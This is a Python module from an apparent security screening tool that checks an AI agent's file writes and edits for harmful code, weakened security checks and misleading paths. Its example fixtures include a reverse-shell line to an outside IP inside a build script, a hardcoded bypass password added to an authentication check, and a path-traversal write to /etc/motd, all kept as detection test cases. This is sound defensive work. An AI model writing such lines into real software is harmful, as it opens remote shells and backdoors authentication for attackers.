"""Screen of what a call writes into programs: what the added lines do when they run, and what they no longer check."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Final

from tidegate.core.finding import Severity
from tidegate.detect.acts.act import Act, Deed
from tidegate.detect.acts.file_text import acts_of_file, language_of_file
from tidegate.detect.detector import Rule
from tidegate.detect.hooks.files import kind_of_file
from tidegate.detect.screen import About, Context, ScreenExample, Sight, Source
from tidegate.detect.screening.harm import WORST_FIRST, harms_of, shown
from tidegate.detect.weakened.lines import WEAKENED, may_be_weakened, worth_reading

_SHOWN: Final = 240
_TEST: Final = re.compile(
    r"(?:^|/)(?:tests?|spec|__tests__|fixtures|examples?|demo|samples?)/|(?:^|/)test_|"
    r"_test\.|\.(?:test|spec)\."
)
_ODD: Final[dict[str, Severity]] = {
    "hidden_characters": "critical",
    "disguised": "critical",
    "traversal": "high",
    "alternate_stream": "high",
    "trailing_dots": "high",
    "other_host": "high",
    "device": "high",
}
_VERBS: Final = frozenset({"write", "delete"})
_OUTSIDE: Final = ("/", "~", "../")


class FileBackdoors:
    """See the module."""

    id = "file_backdoors"
    title = "What a call writes into programs"
    version = 1
    about = About(_VERBS)
    rules = (
        Rule(
            id="harmful_code",
            title="Added lines that do harm when they run",
            label="tampering",
            kind="tool_call",
            severity="critical",
            what="Something fetched or decoded is run, a shell is given away, secrets are sent, in what a call writes.",
        ),
        Rule(
            id="weakened_check",
            title="Added lines that check less",
            label="tampering",
            kind="tool_call",
            severity="high",
            what="Certificates, signatures, passwords or rights that are no longer checked, or a "
            "fixed value that passes "
            "the check, when nobody spoke of that. In tests and examples it is noted.",
        ),
        Rule(
            id="odd_path",
            title="A path written to mislead",
            label="tampering",
            kind="tool_call",
            severity="high",
            what="Invisible or disguised letters, a detour out of the directory that is named, "
            "streams, devices, links.",
        ),
    )
    examples = (
        ScreenExample(
            tool="Write",
            arguments={
                "file_path": "scripts/build.sh",
                "content": "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n",
            },
            shows=("harmful_code",),
        ),
        ScreenExample(
            tool="Write",
            arguments={"file_path": "scripts/build.sh", "content": "#!/bin/sh\nset -e\nnpm ci\nnpm run build\n"},
            near="harmful_code",
        ),
        ScreenExample(
            tool="Edit",
            arguments={
                "file_path": "src/auth.py",
                "old_string": "    if check(user, password):\n        return True",
                "new_string": '    if check(user, password) or password == "x7-open-42":\n        return True',
            },
            shows=("weakened_check",),
        ),
        ScreenExample(
            tool="Edit",
            arguments={
                "file_path": "src/auth.py",
                "old_string": "    if check(user, password):\n        return True",
                "new_string": "    if user.active and check(user, password):\n        return True",
            },
            near="weakened_check",
        ),
        ScreenExample(
            tool="Write",
            arguments={"file_path": "src/../../../../etc/motd", "content": "hello"},
            shows=("odd_path",),
        ),
        ScreenExample(
            tool="Write", arguments={"file_path": "../shared/notes.txt", "content": "hello"}, near="odd_path"
        ),
    )

    def judge(self, deed: Deed, context: Context) -> list[Sight]:
        """See Screen."""
        found: list[Sight] = []
        for act in deed.acts:
            if act.verb in ("write", "delete") and act.traits:
                found += self._odd(act)
            if act.verb == "write" and act.text and worth_reading(act.text):
                found += self._harmful(act, context)
                found += self._weakened(act, context)
        found.sort(key=lambda sight: WORST_FIRST.index(sight.severity))
        return found

    def _odd(self, act: Act) -> Iterator[Sight]:
        for trait, severity in _ODD.items():
            if trait in act.traits and not (trait == "device" and "by_shell" in act.traits):
                yield Sight(f"{self.id}.odd_path", severity, trait, act.target[:_SHOWN])
        if "symlink" in act.traits and act.text.startswith(_OUTSIDE):
            yield Sight(f"{self.id}.odd_path", "high", "symlink", f"{act.target} -> {act.text}"[:_SHOWN])

    def _harmful(self, act: Act, context: Context) -> Iterator[Sight]:
        # What hooks and build steps do is another screen's.
        if kind_of_file(act.target) is not None or not language_of_file(act.target, act.text):
            return
        acts, _ = acts_of_file(act.target, act.text)
        for harm in harms_of(acts, context)[:3]:
            yield Sight(f"{self.id}.harmful_code", harm.severity, harm.why, shown(harm), harm.likely)

    def _weakened(self, act: Act, context: Context) -> Iterator[Sight]:
        if not may_be_weakened(act.text):
            return
        if not language_of_file(act.target, act.text) and "replace" not in act.traits:
            return
        test = _TEST.search(act.target) is not None
        for line in WEAKENED:
            match = line.pattern.search(act.text)
            if match is None or (line.only_edits and "replace" not in act.traits):
                continue
            spoken = any(context.says(word) >= Source.TOOL_RESULT for word in line.asked)
            severity: Severity = "low" if test or spoken else line.severity
            yield Sight(f"{self.id}.weakened_check", severity, line.why, match[0].strip()[:_SHOWN])


SCREEN = FileBackdoors()
